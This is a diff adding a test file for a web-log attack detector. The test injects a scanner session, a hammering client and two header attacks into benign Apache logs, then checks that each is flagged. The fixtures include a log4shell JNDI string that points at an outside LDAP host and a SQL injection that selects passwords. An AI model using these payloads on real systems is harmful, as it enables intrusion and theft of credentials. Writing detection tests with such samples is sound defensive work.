@@ -1,0 +1,92 @@
+// Detection v2 on real lines (skips when ../shared/data is absent): a slice of elastic-apache-logs with
+// a real Acunetix session, attacks in a User-Agent and a Referer, and a client hammering one page
+// injected. The scanner's requests, the header attacks and the clients' labels are checked one by one.
+
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { analyze } from '../../src/pipeline/analyze.js';
+import type { Analysis } from '../../src/types.js';
+import { BENIGN_LOG, DATA, HAVE_DATA } from '../features/attack-mix.js';
+import { trigramEmbedder } from '../helpers/trigram-embedder.js';
+
+const SCANNER = '198.51.100.7';
+const HAMMER = '198.51.100.8';
+const AGENT_ATTACKER = '198.51.100.9';
+const REFERER_ATTACKER = '198.51.100.10';
+
+describe.skipIf(!HAVE_DATA)('detection v2 on real lines', () => {
+  let analysis: Analysis;
+  const scannerLines: number[] = [];
+  let agentLine = 0;
+  let refererLine = 0;
+
+  beforeAll(async () => {
+    const background = readFileSync(BENIGN_LOG, 'utf8').trimEnd().split('\n').slice(0, 3000);
+    const scan = readFileSync(`${DATA}ocatak-apache-scans/acunetix.log`, 'utf8').split(/\r?\n/).slice(2000, 2150);
+    const lines: string[] = [];
+    background.forEach((line, i) => {
+      lines.push(line);
+      const time = /\[([^\]]+)\]/.exec(line)![1];
+      if (i >= 1000 && i < 1150) {
+        // The scanner's own request line, status and user agent, with the background's time.
+        const m = /"(\S+ \S+ HTTP\/[\d.]+)" (\d{3}) \S+ "[^"]*" "([^"]*)"/.exec(scan[i - 1000]!.replace(/^"|"$/g, ''));
+        if (m) {
+          lines.push(`${SCANNER} - - [${time}] "${m[1]}" ${m[2]} 0 "-" "${m[3]}"`);
+          scannerLines.push(lines.length);
+        }
+      }
+      if (i >= 2000 && i < 2030) for (let k = 0; k < 10; k++) lines.push(`${HAMMER} - - [${time}] "GET /presentations/logstash-puppetconf-2012/ HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (Windows NT 6.1; rv:26.0) Gecko/20100101 Firefox/26.0"`);
+      if (i === 2500) {
+        lines.push(`${AGENT_ATTACKER} - - [${time}] "GET / HTTP/1.1" 200 3000 "-" "\${jndi:ldap://203.0.113.66:1389/a}"`);
+        agentLine = lines.length;
+      }
+      if (i === 2600) {
+        lines.push(`${REFERER_ATTACKER} - - [${time}] "GET /blog/ HTTP/1.1" 200 3000 "http://example.com/?id=1' union select password from users--" "Mozilla/5.0"`);
+        refererLine = lines.length;
+      }
+    });
+    const file = join(mkdtempSync(join(tmpdir(), 'semlog-v2-')), 'access.log');
+    writeFileSync(file, `${lines.join('\n')}\n`);
+    analysis = await analyze({ paths: [file], embedder: trigramEmbedder(), cacheDir: false });
+  });
+
+  it('finds a scanner’s probes line by line, though most of them look ordinary alone', () => {
+    const flagged = new Set(analysis.lines.filter((l) => l.ip === SCANNER).map((l) => l.line));
+    const found = scannerLines.filter((line) => flagged.has(line)).length;
+    expect(found / scannerLines.length).toBeGreaterThanOrEqual(0.9);
+    const client = analysis.ips.find((ip) => ip.ip === SCANNER)!;
+    expect(client.labels).toContain('hostile');
+    expect(client.reasons[0]).toMatch(/^hostile: /);
+    expect(analysis.lines.some((l) => l.ip === SCANNER && /from a hostile client .*unusual for this site: no other client/.test(l.reasons.join('; ')))).toBe(true);
+  });
+
+  it('finds attacks in the User-Agent and the Referer, and says which field', () => {
+    const agent = analysis.lines.find((l) => l.line === agentLine)!;
+    expect(agent.fields).toContain('userAgent');
+    expect(agent.reasons[0]).toBe('the User-Agent carries log4shell');
+    const referer = analysis.lines.find((l) => l.line === refererLine)!;
+    expect(referer.fields).toContain('referer');
+    expect(referer.reasons[0]).toBe('the Referer carries sql_injection');
+  });
+
+  it('ranks the hammering client near the top and labels the known crawlers', () => {
+    const ranked = analysis.ips.map((ip) => ip.ip);
+    expect(ranked.indexOf(HAMMER)).toBeLessThan(3);
+    expect(analysis.ips.find((ip) => ip.ip === HAMMER)!.labels).toContain('hammering');
+    const googlebot = analysis.ips.find((ip) => /googlebot/i.test(ip.topUserAgents[0]?.[0] ?? ''));
+    if (googlebot) {
+      expect(googlebot.labels).toContain('crawler');
+      expect(ranked.indexOf(googlebot.ip)).toBeGreaterThan(ranked.indexOf(SCANNER));
+    }
+  });
+
+  it('reports no ordinary page view of the scanner', () => {
+    // Requests of the scanner to paths other clients get a success from, with no payload and
+    // ordinary characters, are not findings.
+    for (const line of analysis.lines.filter((l) => l.ip === SCANNER && l.outlierScore === 0)) {
+      expect(line.reasons.join('; ')).toMatch(/no other client|answered \d+ where|looks like|unusual characters/);
+    }
+  });
+});
